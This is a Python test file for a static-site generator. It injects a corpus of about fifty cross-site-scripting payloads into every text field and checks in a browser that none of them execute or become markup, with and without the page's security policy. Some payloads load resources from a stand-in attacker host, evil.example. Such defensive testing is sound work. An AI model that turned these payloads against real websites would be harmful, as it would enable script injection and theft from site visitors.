"""Names that would be markup: in every text of the data, of the council and of the author, nothing of them runs or becomes an element, with the page's rule and without it."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import attrs
import pyarrow as pa
import pytest

from jsnakit.chapters import Prose
from jsnakit.publish import SiteInfo, build

# Each would leave a mark (`self.owned`) or say something (a dialog) if it ran.
CORPUS = (
    "<script>self.owned=1</script>", "</script><script>self.owned=2</script>", "</style><script>self.owned=3</script>", "</title><script>self.owned=4</script>", "</textarea><script>self.owned=5</script>",
    "<img src=x onerror=self.owned=6>", "<svg onload=self.owned=7>", "<svg><animate onbegin=self.owned=8 attributeName=x dur=1s>", '"><img src=x onerror=self.owned=9>',
    "' autofocus onfocus='self.owned=10", '" autofocus tabindex=0 onfocus="self.owned=11', "<iframe srcdoc='<script>parent.owned=12</script>'>", "<iframe src=javascript:parent.owned=13>",
    "<details open ontoggle=self.owned=14>", "<body onload=self.owned=15>", "<video><source onerror=self.owned=16>", "<math><mtext></table><img src=x onerror=self.owned=17>", "<!--><img src=x onerror=self.owned=18>-->",
    "<![CDATA[><script>self.owned=19</script>]]>", "]]><script>self.owned=20</script>", "<noscript><p title='</noscript><img src=x onerror=self.owned=21>'>", "<template><script>self.owned=22</script></template>",
    "<a href=javascript:self.owned=23>x</a>", "javascript:self.owned=24", "[x](javascript:self.owned=25)", '![x](x" onerror="self.owned=26)', "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form><button formaction=javascript:self.owned=27>x</button></form>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<object data=javascript:self.owned=28>",
    "<x style='background:url(//evil.example/x.png)'>", "{{constructor.constructor('self.owned=29')()}}", "${self.owned=30}", "\\u003cscript>self.owned=31</script>", "&lt;script&gt;self.owned=32&lt;/script&gt;",
    "%3Cscript%3Eself.owned=33%3C/script%3E", "\u2028self.owned=34//", "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>", "<script\x00>self.owned=35</script>", "<scr\nipt>self.owned=36</scr\nipt>", "<svg><script>self.owned=37</script></svg>",
    "<svg><a xlink:href=javascript:self.owned=38><text>x</text></a></svg>", "<svg><foreignObject><img src=x onerror=self.owned=39></foreignObject></svg>", "<input autofocus onfocus=self.owned=40>", "<select autofocus onfocus=self.owned=41>",
    "*x* <img src=x onerror=self.owned=42> `<b>`", "<q id=jk-data-pictures>", "@0", '" d="@1', "{style}", "$&$`$'",
)  # fmt: skip
PARTS = 4

LOOK = """() => ({
  owned: self.owned === undefined ? null : self.owned,
  here: document.documentElement.outerHTML.length > 1000,
  elements: [...document.querySelectorAll('script:not([type="application/json"], [type="application/octet-stream"]), iframe, object, embed, base, form, img, video, math, template, link, style, meta[http-equiv=refresh], foreignObject, animate')]
    .map(e => e.outerHTML.slice(0, 60)),
  handlers: [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames().filter(n => n.startsWith('on') || n === 'style' || n === 'srcdoc' || n === 'formaction')),
  links: [...document.querySelectorAll('a')].map(a => a.protocol).filter(p => !['file:', 'https:', 'http:', 'blob:'].includes(p)),
})"""


def test_there_are_fifty_payloads() -> None:
    assert len(set(CORPUS)) >= 50


def _poisoned(country: Any, site: SiteInfo, payload: str, chapters: Any) -> tuple[Any, SiteInfo, Any]:
    """The payload in every text there is."""
    country.place = attrs.evolve(country.place, name=payload)
    country.catalogue = {
        k: attrs.evolve(
            i, name=f"{i.name} {payload}", definition=payload, caveats=(payload,), question=payload, publisher=payload, homepage=payload, use=payload, numerator=payload, denominator=payload,
            frequency=payload, polarity_source=payload, unit=i.unit if i.unit == "%" else payload,
        )
        for k, i in country.catalogue.items()
    }  # fmt: skip
    country.cited = {
        k: attrs.evolve(c, publisher=payload, title=payload, release=payload, url=payload, licence=payload, attribution=payload)
        for k, c in country.cited.items()
    }
    country.outlines = [{**r, "name": payload} for r in country.outlines]
    country.waits.frame = country.waits.frame.assign(name=payload)
    country.waits.caveat = payload
    names = country.table.column_names
    for column in ("period", "note"):
        country.table = country.table.set_column(names.index(column), column, pa.array([payload] * len(country.table), pa.string()))
    info = attrs.evolve(site, council=payload, title=payload, edition=payload, contact=payload, attribution=(payload,), demonstration=True)
    made = []
    for chapter in chapters:
        # A brace in prose is a placeholder, and one that is unknown is the author's mistake, said at once.
        words = payload.replace("{{", "{ {")
        pages = tuple(
            attrs.evolve(p, title=words, blocks=(Prose(words, 3), Prose(f"# {words}\n\n- {words}\n\n| {words} |\n|---|\n| {words} |", 4), *p.blocks))
            for p in chapter.pages
        )
        made.append(attrs.evolve(chapter, title=words, owner=payload, pages=pages))
    return country, info, tuple(made)


@pytest.mark.parametrize("part", range(PARTS))
def test_nothing_that_was_read_runs(
    country: Any, site: SiteInfo, make_chapters: Callable[..., Any], open_page: Any, tmp_path: Path, part: int
) -> None:
    data, info, chapters = _poisoned(country, site, " ".join(CORPUS[part::PARTS]), make_chapters())
    folder = build(chapters, data, tmp_path / "site", info).folder
    page = open_page(folder / "about.html")
    for path in sorted(folder.rglob("*.html")):
        page.goto(path.as_uri())
        found = page.evaluate(LOOK)
        assert found["owned"] is None, path
        assert [e[:7] for e in found["elements"]] == ["<style>", "<script"], (path, found["elements"])
        assert (found["handlers"], found["links"]) == ([], []), path
        # What the scripts make of what was read is text too.
        page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
        page.wait_for_timeout(30)
        for box in page.locator("textarea").all():
            assert box.input_value().count("<") == 2, path
        assert page.evaluate(LOOK)["owned"] is None
    # Without the rule of the page the same: it is the second lock, not the first.
    bare = open_page("about:blank", watched=False)
    for path in sorted(folder.rglob("*.html")):
        text = path.read_text(encoding="utf-8")
        path.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text), encoding="utf-8")
        bare.goto(path.as_uri())
        assert bare.locator("meta[http-equiv]").count() == 0
        found = bare.evaluate(LOOK)
        assert (found["owned"], found["handlers"], found["links"]) == (None, [], []), path
        assert len(found["elements"]) == 2
    for picture in sorted(folder.rglob("*.svg")):
        bare.goto(picture.as_uri())
        assert bare.evaluate("document.documentElement.localName") == "svg", picture
        assert bare.evaluate("self.owned === undefined"), picture
        assert bare.evaluate("document.querySelectorAll('script, foreignObject, image, a, animate').length") == 0, picture


def test_pictures_made_in_the_page_are_those_that_python_draws(
    country: Any, site: SiteInfo, make_chapters: Callable[..., Any], open_page: Any, tmp_path: Path
) -> None:
    """Names that look like the places where a picture is put together again ("@0", "{style}", "$&") stay names."""
    data, info, chapters = _poisoned(country, site, " ".join(CORPUS), make_chapters())
    folder = build(chapters, data, tmp_path / "site", info).folder
    page = open_page(folder / "health" / "index.html")
    keys = page.locator("a[data-picture]").evaluate_all("all => all.map(a => a.dataset.picture)")
    assert len(keys) >= 2
    for key in keys:
        assert page.evaluate("k => jsnakit.pictures.text(k)", key) == (folder / "health" / "data" / f"{key}.svg").read_text(encoding="utf-8"), key
        with page.expect_download() as waiting:
            page.locator(f"#{key}").get_by_role("button", name="Picture (PNG)").click()
        assert Path(waiting.value.path()).stat().st_size > 5000


def test_the_test_would_see_what_runs(demo: Path, open_page: Any, tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", (demo / "about.html").read_text(encoding="utf-8"))
    path.write_text(text.replace("</h1>", "</h1><img src=x onerror=self.owned=6><a href='javascript:1'>x</a>", 1), encoding="utf-8")
    page = open_page(path, watched=False)
    page.wait_for_function("self.owned === 6")
    found = page.evaluate(LOOK)
    assert found["handlers"] == ["onerror"]
    assert found["links"] == ["javascript:"]
    assert len(found["elements"]) == 3
